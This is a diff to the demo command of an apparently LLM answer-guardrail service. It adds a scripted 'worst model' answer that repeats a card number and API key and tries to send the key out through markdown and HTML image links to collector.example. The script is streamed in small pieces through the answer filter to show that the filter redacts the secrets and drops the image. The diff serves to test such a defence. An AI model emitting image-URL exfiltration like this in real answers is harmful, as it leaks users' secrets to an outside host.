@@ -1,4 +1,4 @@
-"""`clearance demo`: what this is about, on the running instance, in under a minute. Nothing is prepared or faked."""
+"""`clearance demo`: what this is about, on the running instance, in a minute. One answer is a script, and says so."""
 
 import os
 import tempfile
@@ -22,6 +22,8 @@ from app.audit.report import Report
 from app.audit.verify import verify
 from app.cli.connect import HOME, Home, Wanted, find_url, person_key
 from app.cli.screen import out
+from app.guardrail.answer_filter import AnswerFilter
+from app.guardrail.checks import default_checks
 from app.local.client import Client, path
 from app.local.failure import LocalFailure
 from app.local.sample import FOLDER, PEOPLE_FILE, read_people
@@ -30,6 +32,14 @@ QUESTIONS = FOLDER / "questions.yaml"
 AUDITOR = "oskar"
 # The sequencer puts records in order every half second; a busy machine takes longer.
 ORDER_SECONDS = 20.0
+# What the worst model would say: it repeats the secrets, and tries to send them away in the address of a picture.
+SCRIPT = (
+    "The card is {card}, so here it is once more in bold: **{card}** [1].\n"
+    "The API key is {key} [1].\n"
+    "![chart](https://collector.example/?q={key})\n"
+    "<img src=https://collector.example/?q=forecast>\n"
+)
+PIECE = 4
 EDITED = b'"kind\\":\\"answer.opened'
 
 
@@ -76,7 +86,7 @@ class _Demo:
         self.two_answers()
         self.redaction()
         self.audit()
-        _aside(f"\n{time.monotonic() - begin:.0f} s, all of it asked of the running service just now.")
+        _aside(f"\n{time.monotonic() - begin:.0f} s, asked of the running service just now, but for the script.")
         return self.broken
 
     def two_answers(self) -> None:
@@ -103,21 +113,34 @@ class _Demo:
         self._check_secrets(entry, answer, "the quotes")
         if not answer["redactions"]:
             self._breaks("nothing was redacted in the quotes")
-        self._streamed(entry, "quote", Text.assemble(who, (", quoted and streamed:", "dim")))
-        streamed = self._streamed(entry, "generate", Text.assemble(who, (", streamed from the language model:", "dim")))
-        _aside(_model_said(streamed))
+        self._scripted(entry)
+        quoted, written = self._streamed(entry, "quote"), self._streamed(entry, "generate")
+        _aside(_model_said(quoted, written))
 
-    def _streamed(self, entry: dict[str, Any], mode: str, title: Text) -> dict[str, Any]:
-        """Ask again, and show the answer while it comes."""
-        out.print(title)
+    def _scripted(self, entry: dict[str, Any]) -> None:
+        """The worst case, which no model can be relied on to show: one that gives away all it was shown."""
+        out.print(Text("A model that gives everything away would stream this (a script, in pieces of"))
+        out.print(Text(f"{PIECE} characters). The gate that every answer passes lets out:\n"))
+        card, key = entry["redacted"]
+        script = SCRIPT.format(card=card, key=key)
         window = _Window()
-        answer: dict[str, Any] = {}
+        passed = AnswerFilter(default_checks(), sources=1)
+        for at in range(0, len(script), PIECE):
+            window.show(passed.feed(script[at : at + PIECE]))
+        window.show(passed.flush())
+        window.close()
+        self._check_secrets(entry, {"answer": window.text}, "the scripted stream")
+        if window.text.count("[redacted: ") < len(entry["redacted"]) or "![" in window.text:
+            self._breaks("the gate let the scripted stream through")
+
+    def _streamed(self, entry: dict[str, Any], mode: str) -> dict[str, Any]:
+        """Ask the running service for a stream, and look through all of it."""
+        text, answer = "", {}
         for name, data in self.client(entry["asker"]).ask_streamed({"question": entry["question"], "mode": mode}):
             if name == "delta":
-                window.show(data["text"])
+                text += data["text"]
             elif name == "done":
-                answer = {**data, "answer": window.text}
-        window.close()
+                answer = {**data, "answer": text}
         self.trails[answer["trail"]] = entry["asker"]
         self._check_secrets(entry, answer, f"the streamed answer ({mode})")
         return answer
@@ -193,7 +216,9 @@ class _Demo:
         while True:
             found = auditor.get("/audit/events", newest_first=True, limit=200)["events"]
             events = {
-                (e["record"]["trail"], e["record"]["kind"]): e for e in found if e["record"]["trail"] in self.trails
+                (e["record"]["trail"], e["record"]["kind"]): e
+                for e in found
+                if e["record"] and e["record"]["trail"] in self.trails
             }
             if len(events) == 2 * len(self.trails) or time.monotonic() > deadline:
                 return events
@@ -291,13 +316,17 @@ class _Window:
             _aside(f"  … and {len(self.text) - self._shown} characters more, which were looked through as well")
 
 
-def _model_said(answer: dict[str, Any]) -> str:
-    """What can honestly be said of the model's own text."""
-    if answer["fallback"]:
-        return f"The model did not answer ({answer['fallback']}); these were quotes."
-    if "[redacted" in answer["answer"]:
-        return "The model repeated what it had been shown, and the gate took the secrets out of the stream."
-    return "The model did not repeat a secret this time: the gate looked at each piece, and had nothing to take out."
+def _model_said(quoted: dict[str, Any], written: dict[str, Any]) -> str:
+    """What can honestly be said of the service's own streams."""
+    said = f"The service streamed its quotes, {len(quoted['answer']):,} characters: no secret in them."
+    if written["fallback"]:
+        return f"{said}\nThe model did not answer ({written['fallback']}); these were quotes."
+    return (
+        f"{said}\nIts language model was asked as well and streamed {len(written['answer']):,}: no secret either. The\n"
+        "model that comes along is tiny (135 million parameters): it shows that answers\n"
+        "stream and are guarded, and writes badly. CLEARANCE_MODEL__BASE_URL connects yours;\n"
+        "'clearance ask --mode quote' needs none."
+    )
 
 
 def _aside(text: str) -> None:
